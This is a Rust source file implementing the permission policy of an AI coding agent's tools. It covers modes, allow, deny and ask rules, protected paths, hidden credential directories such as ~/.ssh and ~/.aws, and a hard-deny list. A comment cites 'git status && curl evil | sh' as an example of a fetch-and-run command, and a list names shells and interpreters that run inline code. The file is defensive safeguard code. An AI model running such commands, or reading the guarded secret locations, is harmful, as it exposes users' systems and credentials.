//! [`PermissionPolicy`]: the mode, the rules and the workspace, and [`PermissionPolicy::decide`].

use std::path::{Path, PathBuf};
use std::pin::Pin;
use std::sync::{Arc, PoisonError, RwLock};

use super::bash::{CommandClass, classify_in};
use super::decision::{AskKind, Decision};
use super::links::shared_link_count;
use super::protected::Protected;
use super::rule::{FixedRules, Rule, RuleKind, RuleSource};
use super::shell::split_commands;
use super::targets::write_targets;
use super::wrappers::commands_run;
use super::{Error, PermissionMode, load_permissions_file, resolve_path};
use crate::config::PermissionsConfig;
use crate::diff::FileChange;
use crate::tools::sandbox::Secrets;
use crate::tools::{PermissionSubject, Workspace};

/// Programs that run code given to them inline or run another program: no prefix rule is offered
/// for them ([`PermissionPolicy::suggested_rules`]).
const INLINE_CODE: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "node", "perl", "ruby", "php",
    "lua", "deno", "bun", "env", "xargs", "eval", "exec", "nohup", "timeout", "nice",
];

/// Kernel and boot areas no file tool may write, in any mode (the file-tool side of the hard-deny
/// list).
const PROTECTED_WRITE_AREAS: &[&str] = &["/dev", "/proc", "/sys", "/boot"];

/// A call to check.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PermissionRequest {
    pub tool: String,
    /// Whether this call (with its input) only reads; see `Tool::is_read_only_call`.
    pub is_read_only: bool,
    pub subject: PermissionSubject,
}

impl PermissionRequest {
    /// Rules that together would allow this call and similar ones, for a project at `root`:
    /// `bash:git push*` (one per part of a compound command, as every part must be allowed:
    /// `bash:mkdir*`, `bash:rm*`), `edit_file:src/a.rs` (a file in the project), `write_file:/srv/out/*`
    /// (the resolved directory of one outside it, as rules match resolved paths), or the bare tool
    /// name.
    pub fn suggested_rules(&self, root: &Path) -> Vec<String> {
        match &self.subject {
            PermissionSubject::Command(line) => {
                let mut rules: Vec<String> = Vec::new();
                for words in split_commands(line) {
                    // Not peeled: a rule for `apt-get` must not match `sudo apt-get`.
                    let prefix: Vec<&str> = words
                        .iter()
                        .take(2)
                        .enumerate()
                        .take_while(|(i, w)| *i == 0 || !(w.starts_with('-') || w.contains('/')))
                        .map(|(_, w)| w.as_str())
                        .collect();
                    let rule = format!("{}:{}*", self.tool, prefix.join(" "));
                    // `bash:mkdir*` covers `bash:mkdir e*`.
                    let covered = rules
                        .iter()
                        .any(|r| rule.starts_with(r.trim_end_matches('*')));
                    if !prefix.is_empty() && !covered {
                        rules.push(rule);
                    }
                }
                if rules.is_empty() {
                    rules.push(self.tool.clone());
                }
                rules
            }
            PermissionSubject::Path { path, .. } => {
                let resolved = resolve_path(root, path);
                vec![match (resolved.strip_prefix(root), resolved.parent()) {
                    // Inside the project: that file, relative to the root.
                    (Ok(inside), _) if !inside.as_os_str().is_empty() => {
                        format!("{}:{}", self.tool, inside.display())
                    }
                    (_, Some(dir)) => format!("{}:{}/*", self.tool, dir.display()),
                    _ => format!("{}:{}", self.tool, resolved.display()),
                }]
            }
            PermissionSubject::Host(host) => vec![format!("{}:{host}", self.tool)],
            PermissionSubject::Other => vec![self.tool.clone()],
        }
    }
}

/// The future an [`Approver`] returns: `true` allows the call.
pub type ApproverFuture<'a> = Pin<Box<dyn Future<Output = bool> + Send + 'a>>;

/// What the person answering an `Ask` is shown: the call, why it needs approval, its arguments,
/// the directory it runs in and, for a file tool, the change it will make (computed by the tool the
/// way the call computes it; `Err` when the call would fail).
#[derive(Debug)]
pub struct ApprovalRequest<'a> {
    pub request: &'a PermissionRequest,
    pub reason: &'a str,
    pub input: &'a serde_json::Value,
    pub cwd: &'a Path,
    pub preview: Option<Result<FileChange, String>>,
}

/// The answer to an [`ApprovalRequest`]. Allowing for the session is allowing, after the approver
/// added the rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Approval {
    Allow,
    Deny,
    /// Denied, with a message for the model ("do it with X instead"): the call's result.
    DenyWithMessage(String),
}

/// The future [`Approver::review`] returns.
pub type ReviewFuture<'a> = Pin<Box<dyn Future<Output = Approval> + Send + 'a>>;

/// Someone who can answer an `Ask` (the `chat` prompt). Absent in unattended sessions.
pub trait Approver: Send + Sync {
    fn approve<'a>(&'a self, request: &'a PermissionRequest, reason: &'a str)
    -> ApproverFuture<'a>;

    /// Answers with the whole [`ApprovalRequest`] in view; by default [`Approver::approve`].
    fn review<'a>(&'a self, ask: &'a ApprovalRequest<'a>) -> ReviewFuture<'a> {
        Box::pin(async move {
            if self.approve(ask.request, ask.reason).await {
                Approval::Allow
            } else {
                Approval::Deny
            }
        })
    }
}

/// Where a policy's settings come from, lowest precedence first for the mode: config, then the flag.
/// Rules from every source are combined; deny beats allow wherever a rule came from.
#[derive(Debug, Clone, Copy)]
pub struct PolicySources<'a> {
    /// `--permission-mode`; wins over `config.mode`.
    pub mode_flag: Option<PermissionMode>,
    /// `tools.permissions` from the merged config.
    pub config: &'a PermissionsConfig,
    /// `<home>/permissions.json`; a missing file means no rules.
    pub permissions_file: Option<&'a Path>,
    /// `--allow RULE` and `--deny RULE`.
    pub allow_flags: &'a [String],
    pub deny_flags: &'a [String],
    /// Deny rules the caller fixes, whatever the others say ([`RuleSource::Fixed`]).
    pub fixed_deny: FixedRules,
}

#[derive(Debug)]
pub struct PermissionPolicy {
    /// The mode now, and the one `plan` goes back to when its plan is approved. Switched while a
    /// session runs (chat's `/plan`, an approved plan); only ever locked briefly.
    mode: RwLock<Modes>,
    /// Rules from every source plus session grants. Only ever locked briefly, never across await.
    rules: RwLock<Vec<Rule>>,
    workspace: Arc<Workspace>,
    /// Places a shell command may write to in `workspace-write` besides the workspace: temp dirs
    /// and the harmless devices.
    scratch: Vec<PathBuf>,
    /// Paths inside the workspace whose writes need approval outside `full`.
    protected: Arc<Protected>,
    /// Secret locations (symlinks resolved) no file tool may read, write or walk into, in any mode.
    hidden: Arc<Secrets>,
}

/// A policy's current mode and the mode planning returns to (never `plan`).
#[derive(Debug, Clone, Copy)]
struct Modes {
    current: PermissionMode,
    after_plan: PermissionMode,
}

impl Modes {
    fn new(mode: PermissionMode, after_plan: PermissionMode) -> Modes {
        let after_plan = match after_plan {
            PermissionMode::Plan => PermissionMode::default(),
            other => other,
        };
        Modes {
            current: mode,
            after_plan: if mode == PermissionMode::Plan {
                after_plan
            } else {
                mode
            },
        }
    }
}

impl PermissionPolicy {
    /// A policy with no rules.
    pub fn new(mode: PermissionMode, workspace: Workspace) -> PermissionPolicy {
        let mut scratch: Vec<PathBuf> = [
            "/tmp",
            "/var/tmp",
            "/dev/null",
            "/dev/stdout",
            "/dev/stderr",
        ]
        .iter()
        .map(PathBuf::from)
        .chain([std::env::temp_dir()])
        .collect();
        scratch.extend(
            scratch
                .iter()
                .filter_map(|p| p.canonicalize().ok())
                .collect::<Vec<_>>(),
        );
        let roots: Vec<PathBuf> = workspace.roots().map(Path::to_owned).collect();
        PermissionPolicy {
            mode: RwLock::new(Modes::new(mode, PermissionMode::default())),
            rules: RwLock::new(Vec::new()),
            protected: Arc::new(Protected::new(&roots)),
            workspace: Arc::new(workspace),
            scratch,
            hidden: Arc::new(Secrets::default()),
        }
    }

    /// The same policy with `hidden` as the secret locations (the sandbox's list,
    /// `crate::tools::sandbox::secret_locations`, symlinks resolved).
    pub fn with_hidden(self, hidden: Secrets) -> PermissionPolicy {
        PermissionPolicy {
            hidden: Arc::new(hidden),
            ..self
        }
    }

    /// True when `subject` writes a protected path or setting as the checks see it (so it ran only
    /// with approval or a pattern allow rule, or in `full` mode).
    pub fn writes_protected(&self, subject: &PermissionSubject) -> bool {
        Subject::new(subject, self.workspace.root(), &self.protected)
            .protected()
            .is_some()
    }

    /// The secret locations hidden from the file tools; walks skip them.
    pub fn hidden(&self) -> &Arc<Secrets> {
        &self.hidden
    }

    /// Builds the policy from config, permissions.json and flags.
    pub fn from_sources(
        workspace: Workspace,
        sources: PolicySources<'_>,
    ) -> Result<PermissionPolicy, Error> {
        let mode = match (sources.mode_flag, &sources.config.mode) {
            (Some(mode), _) => mode,
            (None, Some(text)) => PermissionMode::parse(text, "config tools.permissions.mode")?,
            (None, None) => PermissionMode::default(),
        };
        let mut policy = PermissionPolicy::new(mode, workspace);
        // `--permission-mode plan` goes back to the configured mode once its plan is approved.
        if let Some(text) = &sources.config.mode
            && let Ok(configured) = PermissionMode::parse(text, "config tools.permissions.mode")
        {
            *policy
                .mode
                .get_mut()
                .unwrap_or_else(PoisonError::into_inner) = Modes::new(mode, configured);
        }
        let config = sources.config;
        for (texts, kind) in [
            (&config.allow, RuleKind::Allow),
            (&config.deny, RuleKind::Deny),
            (&config.ask, RuleKind::Ask),
        ] {
            for text in texts {
                policy.add_rule(text, kind, RuleSource::Config)?;
            }
        }
        if let Some(path) = sources.permissions_file {
            let file = load_permissions_file(path)?;
            for text in &file.allowed_tools {
                policy.add_rule(text, RuleKind::Allow, RuleSource::PermissionsFile)?;
            }
            for text in &file.disallowed_tools {
                policy.add_rule(text, RuleKind::Deny, RuleSource::PermissionsFile)?;
            }
        }
        for text in sources.allow_flags {
            policy.add_rule(text, RuleKind::Allow, RuleSource::Flag)?;
        }
        for text in sources.deny_flags {
            policy.add_rule(text, RuleKind::Deny, RuleSource::Flag)?;
        }
        let fixed = sources.fixed_deny;
        for text in fixed.rules {
            policy.add_rule(text, RuleKind::Deny, RuleSource::Fixed(fixed.label))?;
        }
        Ok(policy)
    }

    /// Adds one rule.
    pub fn add_rule(
        &mut self,
        text: &str,
        kind: RuleKind,
        source: RuleSource,
    ) -> Result<(), Error> {
        let rule = Rule::parse(text, kind, source, self.workspace.root())?;
        self.rules
            .get_mut()
            .unwrap_or_else(PoisonError::into_inner)
            .push(rule);
        Ok(())
    }

    /// Adds an allow rule for the rest of the session ("allow and remember" in `chat`). Takes
    /// `&self` so it works on the policy shared by a running session.
    pub fn grant(&self, text: &str) -> Result<(), Error> {
        let rule = Rule::parse(
            text,
            RuleKind::Allow,
            RuleSource::Session,
            self.workspace.root(),
        )?;
        self.rules
            .write()
            .unwrap_or_else(PoisonError::into_inner)
            .push(rule);
        Ok(())
    }

    /// The mode now.
    pub fn mode(&self) -> PermissionMode {
        self.modes().current
    }

    fn modes(&self) -> Modes {
        *self.mode.read().unwrap_or_else(PoisonError::into_inner)
    }

    /// The mode `plan` goes back to (the mode itself outside `plan`); the OS sandbox is the one of
    /// this mode, so that an approved plan can be carried out in the same session.
    pub fn mode_after_plan(&self) -> PermissionMode {
        self.modes().after_plan
    }

    /// Switches to `plan` (chat's `/plan`), remembering the mode to go back to. No-op in `plan`.
    pub fn enter_plan(&self) {
        let mut modes = self.mode.write().unwrap_or_else(PoisonError::into_inner);
        if modes.current != PermissionMode::Plan {
            *modes = Modes::new(PermissionMode::Plan, modes.current);
        }
    }

    /// Leaves `plan` for the mode it came from (a plan was approved, or chat's `/plan` again);
    /// returns the mode now in force.
    pub fn leave_plan(&self) -> PermissionMode {
        let mut modes = self.mode.write().unwrap_or_else(PoisonError::into_inner);
        modes.current = modes.after_plan;
        modes.current
    }

    /// The same rules and workspace under another mode (a read-only sub-agent).
    pub fn with_mode(&self, mode: PermissionMode) -> PermissionPolicy {
        PermissionPolicy {
            mode: RwLock::new(Modes::new(mode, self.mode_after_plan())),
            rules: RwLock::new(self.rules()),
            workspace: Arc::clone(&self.workspace),
            scratch: self.scratch.clone(),
            protected: Arc::clone(&self.protected),
            hidden: Arc::clone(&self.hidden),
        }
    }

    /// A snapshot of the rules, in the order they were added.
    pub fn rules(&self) -> Vec<Rule> {
        self.rules
            .read()
            .unwrap_or_else(PoisonError::into_inner)
            .clone()
    }

    pub fn workspace(&self) -> &Arc<Workspace> {
        &self.workspace
    }

    /// The rules to offer for allowing `request` from now on (chat's `[a]`, an unattended
    /// denial's `--allow` hint), or none where a rule would give more than the one call: a
    /// command changing a protected path (a prefix rule lifts that ask for every later command it
    /// matches, and the guard does not put back what an allowed command changed; a file tool's
    /// rule names the one file), or a command that runs code given inline or through a wrapper
    /// (`sh -c`, `python3 -c`, `timeout 5 …`: a prefix rule would allow any code).
    pub fn suggested_rules(&self, request: &PermissionRequest) -> Vec<String> {
        let subject = Subject::new(&request.subject, self.workspace.root(), &self.protected);
        // A file tool's rule names the one file; a command's would be a prefix.
        if subject.protected().is_some() && matches!(subject, Subject::Command { .. }) {
            return Vec::new();
        }
        if let PermissionSubject::Command(line) = &request.subject
            && split_commands(line).iter().any(|words| {
                words.first().is_some_and(|w| {
                    let program = w.rsplit('/').next().unwrap_or(w);
                    INLINE_CODE.contains(&program)
                })
            })
        {
            return Vec::new();
        }
        request.suggested_rules(self.workspace.root())
    }

    /// Decides whether a call may run. First match wins:
    /// 0. a file tool's path (symlinks resolved) inside a secret location (`~/.ssh`, `~/.aws`, …,
    ///    PilotHome but its skills, plugins and the workspace roots, `tools.sandbox.hide`) → Deny, in every mode, whatever
    ///    the rules say;
    /// 1. a bash command on the hard-deny list, or a file write under `/dev`, `/proc`, `/sys` or
    ///    `/boot` → Deny, in every mode, whatever the rules say;
    /// 2. a deny rule → Deny;
    /// 3. `read-only` or `plan` mode and a call that is not read-only → Deny (allow rules do not
    ///    lift it);
    /// 4. an ask rule → Ask;
    /// 5. a write to a protected path (`.git/`, `.pilotdeck/`, `PILOTDECK.md`, `AGENTS.md`, the
    ///    hooks directory; by a file tool or a shell command) or a git setting that runs code → Ask,
    ///    unless the mode is `full` or an allow rule with a pattern matches (a bare `bash` or
    ///    `write_file` rule does not lift it);
    /// 6. an allow rule → Allow (for a compound command, every part must be allowed by some rule;
    ///    for a file tool, a rule without a pattern covers only paths inside the workspace);
    /// 7. the mode: `full` → Allow; else a path inside the workspace → Allow (a regular file with
    ///    several hard links → Ask, as it may be a file outside), outside → Ask; a dangerous command
    ///    → Ask; any other command → Allow; a network host (the web tools) → Deny in `read-only`
    ///    (only a rule allows them there), Ask otherwise; another tool → Allow if read-only, else
    ///    Ask.
    pub fn decide(&self, request: &PermissionRequest) -> Decision {
        let mode = self.mode();
        let tool = request.tool.as_str();
        let subject = Subject::new(&request.subject, self.workspace.root(), &self.protected);
        if let Subject::Path { resolved, .. } = &subject
            && let Some(secret) = self.hidden.covering(resolved)
        {
            return Decision::Deny {
                reason: format!(
                    "blocked: `{tool}` {}: `{}` is one of the secret locations hidden from the \
                     agent (tools.sandbox.hide and pilotdeck's built-in list), which no permission \
                     mode or rule lifts; do not retry it",
                    subject.describe(),
                    tilde(secret)
                ),
            };
        }
        if let Subject::Command {
            class: CommandClass::HardDeny { reason },
            ..
        } = &subject
        {
            return Decision::Deny {
                reason: format!(
                    "blocked: {reason}. This is on pilotdeck's hard-deny list, which no permission \
                     mode or rule lifts; do not retry it"
                ),
            };
        }
        if let Subject::Path {
            resolved,
            is_write: true,
            ..
        } = &subject
            && let Some(area) = PROTECTED_WRITE_AREAS
                .iter()
                .find(|a| resolved.starts_with(a))
        {
            return Decision::Deny {
                reason: format!(
                    "blocked: `{tool}` would write `{}` under `{area}`, which is on pilotdeck's \
                     hard-deny list for every mode; do not retry it",
                    resolved.display()
                ),
            };
        }
        if let Some(rule) = self.find(RuleKind::Deny, tool, &subject) {
            return Decision::Deny {
                reason: format!(
                    "`{tool}` {} is denied by the rule {rule}",
                    subject.describe()
                ),
            };
        }
        let is_read_only = request.is_read_only
            && !matches!(&subject, Subject::Path { is_write: true, .. })
            && !matches!(&subject, Subject::Command { class, .. } if *class != CommandClass::ReadOnly);
        if matches!(mode, PermissionMode::ReadOnly | PermissionMode::Plan) && !is_read_only {
            let why = match &subject {
                Subject::Command {
                    class:
                        CommandClass::Normal { reason }
                        | CommandClass::Dangerous { reason }
                        | CommandClass::Protected { reason },
                    ..
                } => format!(" ({reason})"),
                _ => String::new(),
            };
            let reason = if mode == PermissionMode::Plan {
                format!(
                    "`{tool}` {} is not allowed in plan mode{why}: read and search to make a plan, \
                     then call `exit_plan_mode` with it; changes are made once the plan is approved",
                    subject.describe()
                )
            } else {
                format!(
                    "`{tool}` {} is not allowed in read-only mode{why}, which runs only read tools \
                     and read-only commands (the person running pilotdeck chooses the mode: \
                     --permission-mode workspace-write allows changes)",
                    subject.describe()
                )
            };
            return Decision::Deny { reason };
        }
        if let Some(rule) = self.find(RuleKind::Ask, tool, &subject) {
            return Decision::Ask {
                reason: format!(
                    "`{tool}` {} needs approval by the rule {rule}",
                    subject.describe()
                ),
                kind: AskKind::Guard,
            };
        }
        if let Some(reason) = subject.protected()
            && mode != PermissionMode::Full
            && self.find_pattern_allow(tool, &subject).is_none()
        {
            return Decision::Ask {
                reason: format!(
                    "`{tool}` {} writes a protected path or setting: {reason}; it needs approval \
                     outside --permission-mode full",
                    subject.describe()
                ),
                kind: AskKind::Guard,
            };
        }
        if self.find(RuleKind::Allow, tool, &subject).is_some() || mode == PermissionMode::Full {
            return Decision::Allow;
        }
        self.mode_default(tool, &subject, is_read_only)
    }

    fn mode_default(&self, tool: &str, subject: &Subject, is_read_only: bool) -> Decision {
        match subject {
            Subject::Path { resolved, .. } => {
                if !self.workspace.roots().any(|r| resolved.starts_with(r)) {
                    return Decision::Ask {
                        reason: format!(
                            "`{tool}` on `{}` is outside the project `{}` and the --add-dir \
                             directories",
                            resolved.display(),
                            self.workspace.root().display()
                        ),
                        kind: AskKind::Guard,
                    };
                };
                if let Some(links) = shared_link_count(resolved) {
                    return Decision::Ask {
                        reason: format!(
                            "`{tool}` on `{}`: the file has {links} hard links, so it may be a file \
                             outside the project reached through a link; a rule naming the path \
                             (e.g. `{tool}:{}`) allows it",
                            resolved.display(),
                            resolved.display()
                        ),
                        kind: AskKind::Guard,
                    };
                }
                Decision::Allow
            }
            Subject::Command {
                line,
                class: CommandClass::Dangerous { reason },
                ..
            } => match self.outside_write(line) {
                Some(path) => Decision::Ask {
                    reason: format!(
                        "{reason}, and it may write to `{}`, outside the project `{}` and the \
                         --add-dir directories; it needs approval outside --permission-mode full",
                        path.display(),
                        self.workspace.root().display()
                    ),
                    kind: AskKind::Guard,
                },
                None => Decision::Ask {
                    reason: format!(
                        "{reason}, which needs approval outside --permission-mode full"
                    ),
                    kind: AskKind::Routine,
                },
            },
            Subject::Command {
                line,
                class: CommandClass::Normal { .. },
                ..
            } => match self.outside_write(line) {
                Some(path) => Decision::Ask {
                    reason: format!(
                        "`{line}` may write to `{}`, outside the project `{}` and the --add-dir \
                         directories",
                        path.display(),
                        self.workspace.root().display()
                    ),
                    kind: AskKind::Guard,
                },
                None => Decision::Allow,
            },
            Subject::Command { .. } => Decision::Allow,
            Subject::Host(host)
                if matches!(self.mode(), PermissionMode::ReadOnly | PermissionMode::Plan) =>
            {
                Decision::Deny {
                    reason: format!(
                        "`{tool}` reaching `{host}` is allowed in read-only mode only by a rule such \
                     as `{tool}:{host}` (--allow or tools.permissions.allow)"
                    ),
                }
            }
            Subject::Host(host) => Decision::Ask {
                reason: format!("`{tool}` would reach `{host}` on the network"),
                kind: AskKind::Guard,
            },
            Subject::Other if is_read_only => Decision::Allow,
            Subject::Other => Decision::Ask {
                reason: format!(
                    "`{tool}` is not marked read-only, so it needs approval outside \
                     --permission-mode full"
                ),
                kind: AskKind::Routine,
            },
        }
    }

    /// The first path a shell command may write (or `cd` into) outside the workspace and scratch
    /// dirs. Only paths the command names explicitly can be seen; relative ones stay in the project.
    fn outside_write(&self, line: &str) -> Option<PathBuf> {
        let home = crate::home::user_home();
        write_targets(line).into_iter().find_map(|target| {
            let target = match (
                &home,
                target
                    .strip_prefix("$HOME")
                    .or(target.strip_prefix("${HOME}")),
            ) {
                (Some(home), Some(rest)) => format!("{}{rest}", home.display()),
                _ => target,
            };
            let resolved = resolve_path(self.workspace.root(), Path::new(&target));
            let inside = self.workspace.contains(&resolved)
                || self.scratch.iter().any(|s| resolved.starts_with(s));
            (!inside).then_some(resolved)
        })
    }

    /// The allow rule naming `host` exactly in its pattern for `tool`, if any (a bare `web_fetch`
    /// rule or a wildcard such as `*.example.com` does not count): what lets the web tools reach a
    /// private or loopback address.
    pub fn host_rule(&self, tool: &str, host: &str) -> Option<String> {
        let subject = Subject::Host(host.to_ascii_lowercase());
        self.find_allow_where(tool, &subject, Rule::names_one_host)
    }

    /// The first allow rule with a pattern matching the call (what lifts a protected path).
    fn find_pattern_allow(&self, tool: &str, subject: &Subject) -> Option<String> {
        self.find_allow_where(tool, subject, Rule::has_pattern)
    }

    /// The first allow rule that `keep` keeps and that matches the call.
    fn find_allow_where(
        &self,
        tool: &str,
        subject: &Subject,
        keep: impl Fn(&Rule) -> bool,
    ) -> Option<String> {
        let kept: Vec<Rule> = self
            .rules
            .read()
            .unwrap_or_else(PoisonError::into_inner)
            .iter()
            .filter(|r| keep(r))
            .cloned()
            .collect();
        self.find_in(&kept, RuleKind::Allow, tool, subject)
            .map(ToString::to_string)
    }

    /// The first rule of `kind` matching the call, described for a message.
    fn find(&self, kind: RuleKind, tool: &str, subject: &Subject) -> Option<String> {
        let all = self.rules.read().unwrap_or_else(PoisonError::into_inner);
        self.find_in(&all, kind, tool, subject)
            .map(ToString::to_string)
    }

    fn find_in<'r>(
        &self,
        all: &'r [Rule],
        kind: RuleKind,
        tool: &str,
        subject: &Subject,
    ) -> Option<&'r Rule> {
        let mut rules = all
            .iter()
            .filter(|r| r.kind == kind && r.matches_tool(tool));
        match subject {
            // A bare allow (`Write`, `read_file`) only covers the workspace, as in PilotDeck: going
            // outside needs a rule that names the path.
            Subject::Path { resolved, .. } => rules.find(|r| {
                r.matches_path(tool, resolved)
                    && (kind != RuleKind::Allow
                        || r.has_pattern()
                        || (self.workspace.contains(resolved)
                            && shared_link_count(resolved).is_none()))
            }),
            Subject::Other => rules.find(|r| r.matches_plain(tool)),
            Subject::Host(host) => rules.find(|r| r.matches_host(tool, host)),
            Subject::Command {
                line,
                segments,
                runs,
                ..
            } => {
                let rules: Vec<&Rule> = rules.collect();
                if let Some(rule) = rules.iter().find(|r| !r.has_pattern()) {
                    return Some(rule);
                }
                let part_matches = |r: &&Rule, s: &String| r.matches_command(tool, s);
                if kind == RuleKind::Allow {
                    // Every part of a compound command must be allowed, so `git *` does not let
                    // `git status && curl evil | sh` through.
                    if segments.len() <= 1
                        && let Some(rule) = rules.iter().find(|r| r.matches_command(tool, line))
                    {
                        return Some(rule);
                    }
                    let all = !segments.is_empty()
                        && segments
                            .iter()
                            .all(|s| rules.iter().any(|r| part_matches(r, s)));
                    return if all { rules.first().copied() } else { None };
                }
                rules.into_iter().find(|r| {
                    r.matches_command(tool, line)
                        || segments.iter().chain(runs).any(|s| part_matches(r, s))
                })
            }
        }
    }
}

/// `path` with the user's home shown as `~`.
fn tilde(path: &Path) -> String {
    crate::home::user_home()
        .and_then(|home| home.canonicalize().ok())
        .and_then(|home| path.strip_prefix(home).ok().map(Path::to_owned))
        .map_or_else(
            || path.display().to_string(),
            |rel| format!("~/{}", rel.display()),
        )
}

/// A request's subject, resolved once.
enum Subject {
    Path {
        resolved: PathBuf,
        is_write: bool,
        /// Why the write lands on a protected path, if it does.
        protected: Option<String>,
    },
    Command {
        line: String,
        segments: Vec<String>,
        /// The programs it runs, wrappers taken off ([`commands_run`]): deny and ask rules match
        /// them too.
        runs: Vec<String>,
        class: CommandClass,
        /// Why the command writes a protected path, if it does.
        protected: Option<String>,
    },
    Host(String),
    Other,
}

impl Subject {
    fn new(subject: &PermissionSubject, root: &Path, protected: &Protected) -> Subject {
        match subject {
            PermissionSubject::Path { path, is_write } => {
                let resolved = resolve_path(root, path);
                Subject::Path {
                    protected: is_write.then(|| protected.reason(&resolved)).flatten(),
                    resolved,
                    is_write: *is_write,
                }
            }
            PermissionSubject::Command(line) => {
                let class = classify_in(line, Some(root));
                let protected = match &class {
                    CommandClass::Protected { reason } => Some(reason.clone()),
                    _ => write_targets(line)
                        .iter()
                        .find_map(|t| protected.reason(&resolve_path(root, Path::new(t)))),
                };
                Subject::Command {
                    line: line.trim().to_owned(),
                    segments: split_commands(line)
                        .into_iter()
                        .map(|w| w.join(" "))
                        .collect(),
                    runs: commands_run(line),
                    class,
                    protected,
                }
            }
            PermissionSubject::Host(host) => Subject::Host(host.to_ascii_lowercase()),
            PermissionSubject::Other => Subject::Other,
        }
    }

    /// Why this call writes a protected path or setting, if it does.
    fn protected(&self) -> Option<&str> {
        match self {
            Subject::Command { protected, .. } | Subject::Path { protected, .. } => {
                protected.as_deref()
            }
            Subject::Host(_) | Subject::Other => None,
        }
    }

    fn describe(&self) -> String {
        match self {
            Subject::Path { resolved, .. } => format!("on `{}`", resolved.display()),
            Subject::Command { line, .. } => format!("running `{line}`"),
            Subject::Host(host) => format!("reaching `{host}`"),
            Subject::Other => "call".to_owned(),
        }
    }
}
